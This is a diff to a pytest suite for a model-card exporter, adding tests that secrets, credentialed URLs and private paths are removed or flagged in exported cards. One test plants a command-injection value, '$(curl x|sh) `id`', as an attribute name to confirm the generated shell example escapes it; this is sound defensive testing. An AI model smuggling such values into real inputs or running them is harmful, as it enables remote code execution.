@@ -15,6 +15,7 @@ from huggingface_hub import ModelCard
 
 import trainer
 from shards.core.errors import Failure, UserError
+from shards.dataset.schema import Attribute, Schema
 from support.errors import raises
 from support.generators import make_run
 from support.hub import TOKEN, Hub, serving, use
@@ -121,7 +122,8 @@ def test_hub_reads_the_metadata_of_a_card(run: Path, capsys: pytest.CaptureFixtu
 def test_card_says_what_was_not_recorded(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
     main([str(run), NAME, "--card-only"])
     card = capsys.readouterr().out
-    assert "not evaluated" in card and "| licence of the images | not recorded |" in card and "license:" not in card
+    assert "No evaluation" in card and "from words. It" in card
+    assert "| licence of the images | not recorded |" in card and "license:" not in card
 
 
 # ---------------------------------------------------------------- secrets
@@ -161,6 +163,41 @@ def test_notes_lose_keys_and_paths_only() -> None:
     text = "drawn with a/b testing, CC0 1.0 (https://ann:pw@x.org/a/b?token=1#f) from /data/ann/faces and ~/faces/x.png"
     assert without_secrets(text) == "drawn with a/b testing, CC0 1.0 (https://x.org/a/b from …/faces and …/x.png"
     assert without_secrets("from C:\\Users\\ann\\faces") == "from …/faces"
+    assert without_secrets("see [https://a:pw@x.org](https://a:pw@x.org)") == "see [https://x.org](https://x.org)"
+    assert without_secrets("see https://a:pw@x.org]") == "see …"
+
+
+def evaluated(run: Path, note: str) -> None:
+    evaluation_file.add(run, 128, {"figures": {"fid": 1.5}, "real": {"fid": 1.0}, "count": 9, "notes": [note]})
+
+
+def test_notes_of_an_evaluation_lose_paths(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    evaluated(run, "fid is left out: the run was not trained on /data/zoe/private")
+    main([str(run), NAME, "--card-only"])
+    card = capsys.readouterr().out
+    assert "zoe" not in card and "not trained on …/private" in card
+
+
+@pytest.mark.parametrize("secret", [TOKEN, "pass*word<1>", "pässwörd-𝄞", 'back\\slash"quote'])
+def test_secret_is_found_behind_escapes(
+    secret: str, run: Path, hub: Hub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("MY_PASSWORD", secret)
+    evaluated(run, f"measured with {secret}")
+    with raises("secret-in-export", "README.md"):
+        main([str(run), NAME])
+    (tmp_path / "export").mkdir()
+    (tmp_path / "export" / "schema.json").write_text(json.dumps({"aliases": secret}))
+    with raises("secret-in-export", "schema.json"):
+        check_no_secrets(tmp_path / "export")
+
+
+def test_example_of_a_card_runs_nothing_in_a_shell(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    schema = Schema((Attribute("word", "exclusive", ("$(curl x|sh) `id` !1 \\", "other")),))
+    main([str(make_run(tmp_path / "run", schema)), NAME, "--card-only"])
+    card = capsys.readouterr().out
+    command = card.partition("or `cgan sample ")[2].partition("--count")[0]
+    assert "curl" in command and not set("$`!\\") & set(command)
 
 
 def test_check_reads_texts_only(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
